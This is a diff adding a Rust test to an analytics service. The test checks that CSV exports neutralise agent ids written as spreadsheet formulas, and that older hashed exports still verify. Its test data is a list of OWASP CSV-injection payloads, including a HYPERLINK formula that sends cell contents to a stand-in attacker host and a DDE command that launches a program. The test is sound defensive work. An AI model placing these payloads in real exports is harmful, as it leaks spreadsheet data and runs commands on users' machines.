@@ -176,6 +176,145 @@ async fn a_history_job_completes_announces_itself_once_and_its_csv_verifies() {
     app.stop().await;
 }
 
+/// Agent ids a spreadsheet would run as formulas (OWASP's CSV injection examples).
+const FORMULA_IDS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3",
+    "\tSUM(1)",
+    "\r=1+1",
+];
+
+async fn results_csv(app: &TestApp, job_id: &str) -> Vec<u8> {
+    let response = app
+        .get(&format!(
+            "/v1/analytics/queries/{job_id}/results?format=csv"
+        ))
+        .await;
+    assert_eq!(response.status(), 200);
+    response.bytes().await.unwrap().to_vec()
+}
+
+#[tokio::test]
+async fn formula_agent_ids_are_neutralised_in_new_csvs_while_a_job_hashed_before_still_verifies() {
+    use wfmd::domain::{AgentState, Origin};
+    use wfmd::store::history::{self, NewInterval};
+    let app = TestApp::spawn().await;
+    let mut tx = app.store.begin_write().await.unwrap();
+    for id in FORMULA_IDS {
+        history::switch_state(
+            &mut tx,
+            &NewInterval {
+                agent_id: id,
+                state: AgentState::Idle,
+                reason: None,
+                origin: Origin::Observed,
+                at: chrono::Utc::now() - chrono::Duration::minutes(30),
+                attempt_id: None,
+            },
+        )
+        .await
+        .unwrap();
+    }
+    tx.commit().await.unwrap();
+    let (from, to) = window();
+    let response = submit(
+        &app,
+        json!({"source": "history", "metrics": ["idle_seconds:sum"], "dimensions": ["agent"],
+               "from": from, "to": to, "bucket": "hour"}),
+    )
+    .await;
+    assert_eq!(response.status(), 202);
+    let new_job = response.json::<Value>().await.unwrap()["job_id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    assert_eq!(until_finished(&app, &new_job).await["status"], "completed");
+    let csv = results_csv(&app, &new_job).await;
+    let text = String::from_utf8(csv.clone()).unwrap();
+    let agents: Vec<String> = csv::Reader::from_reader(text.as_bytes())
+        .records()
+        .map(|row| row.unwrap()[1].to_owned())
+        .collect();
+    for id in FORMULA_IDS {
+        assert!(
+            agents.contains(&format!("'{id}")),
+            "{id:?} not neutralised: {text}"
+        );
+    }
+    assert!(
+        analytics::verify_file(&app.store, &new_job, &csv)
+            .await
+            .unwrap()
+    );
+
+    // A job completed before CSVs were neutralised, stored as that code did: the same
+    // rows, hashed over their cells as they are.
+    let old_csv = text.replace(",'", ",").replace(",\"'", ",\"");
+    assert_ne!(old_csv, text);
+    let sha256 = hex::encode(Sha256::digest(old_csv.as_bytes()));
+    let old_job = "aq_before_neutralising";
+    let mut tx = app.store.begin_write().await.unwrap();
+    sqlx::query(
+        "INSERT INTO analytics_jobs (id, source, spec, actor, created_at)
+         SELECT ?1, source, spec, actor, created_at FROM analytics_jobs WHERE id = ?2",
+    )
+    .bind(old_job)
+    .bind(&new_job)
+    .execute(&mut *tx)
+    .await
+    .unwrap();
+    sqlx::query(
+        "INSERT INTO analytics_results (job_id, series, bucket, vals)
+         SELECT ?1, series, bucket, vals FROM analytics_results WHERE job_id = ?2",
+    )
+    .bind(old_job)
+    .bind(&new_job)
+    .execute(&mut *tx)
+    .await
+    .unwrap();
+    sqlx::query(
+        "UPDATE analytics_jobs SET status = 'completed', rows = ?2, sha256 = ?3,
+             finished_at = ?4, error = NULL
+         WHERE id = ?1 AND status IN ('queued', 'running')",
+    )
+    .bind(old_job)
+    .bind(agents.len() as i64)
+    .bind(&sha256)
+    .bind(wfmd::store::to_ms(chrono::Utc::now()))
+    .execute(&mut *tx)
+    .await
+    .unwrap();
+    wfmd::store::audit::append(
+        &mut tx,
+        &wfmd::store::audit::NewEntry {
+            at: chrono::Utc::now(),
+            actor: "api",
+            action: analytics::AUDIT_COMPLETED,
+            agent_id: None,
+            subject_id: Some(old_job),
+            detail: json!({"job_id": old_job, "rows": agents.len(), "sha256": sha256}),
+        },
+    )
+    .await
+    .unwrap();
+    tx.commit().await.unwrap();
+
+    let downloaded = results_csv(&app, old_job).await;
+    assert_eq!(
+        String::from_utf8(downloaded.clone()).unwrap(),
+        old_csv,
+        "an old job downloads as it was hashed"
+    );
+    assert!(
+        analytics::verify_file(&app.store, old_job, &downloaded)
+            .await
+            .unwrap()
+    );
+    app.stop().await;
+}
+
 #[tokio::test]
 async fn an_interrupted_job_is_redone_from_scratch_and_announced_once() {
     let app = TestApp::spawn().await;
